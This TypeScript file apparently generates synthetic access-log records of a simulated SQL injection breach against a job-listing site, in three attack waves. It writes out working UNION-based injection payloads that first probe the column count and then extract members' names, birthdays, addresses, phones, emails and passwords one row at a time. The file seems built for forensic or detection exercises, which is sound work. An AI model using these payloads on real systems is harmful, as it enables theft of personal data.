import type { Chance } from '../../model/chance.ts';
import { japan } from '../japan-time.ts';
import type { WebRequest } from '../web-request.ts';

/** Published: people by wave. All waves came from different addresses outside of Japan (想定: which). */
export const WAVES = [
  { n: 7, from: '2022-08-29 23:12:40', to: '2022-09-02 03:00:00', address: '203.0.113.31', items: ['email'] },
  {
    n: 384,
    from: '2022-09-02 21:40:10',
    to: '2022-09-08 04:20:00',
    address: '198.51.100.44',
    items: ['email'],
  },
  {
    n: 2_934,
    from: '2022-12-03 01:20:30',
    to: '2022-12-04 22:50:00',
    address: '203.0.113.209',
    items: ['name', 'birthday', 'address', 'phone', 'email', 'password'],
  },
] as const;

const AGENT = 'Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0';

/** 想定: SQL injection into the list of vacancies, one member a request, each wave where the last one ended. */
export function waves(chance: Chance, host: string): WebRequest[] {
  let position = 0;
  return WAVES.flatMap(({ n, from, to, address, items }) => {
    const [begin, end] = [japan(from), japan(to)];
    const ask = (at: number, injected: string, status: number, bytes: number): WebRequest => {
      const target = `/jobs?area=${encodeURIComponent(injected)}`;
      return {
        at: Math.floor(at / 1000) * 1000,
        host,
        address,
        userAgent: AGENT,
        method: 'GET',
        target,
        status,
        bytes,
      };
    };
    const columns = [1, 2, 3].map((count) =>
      ask(
        begin + count * 2_000,
        `-1 UNION ALL SELECT ${Array(count).fill('NULL').join(',')}-- -`,
        count < 3 ? 500 : 200,
        count < 3 ? 310 : 8_000,
      ),
    );
    const step = (end - begin - 60_000) / n;
    const list = `0x71786b71,${items.map((item) => `IFNULL(CAST(${item} AS CHAR),0x20)`).join(',0x3a,')},0x716b7871`;
    const reads = Array.from({ length: n }, (_, row) =>
      ask(
        begin + 30_000 + row * step,
        `-1 UNION ALL SELECT NULL,CONCAT(${list}),NULL FROM members ORDER BY id LIMIT ${position + row},1-- -`,
        200,
        8_100 + items.length * 20 + chance.below(30),
      ),
    );
    position += n;
    return [...columns, ...reads];
  });
}
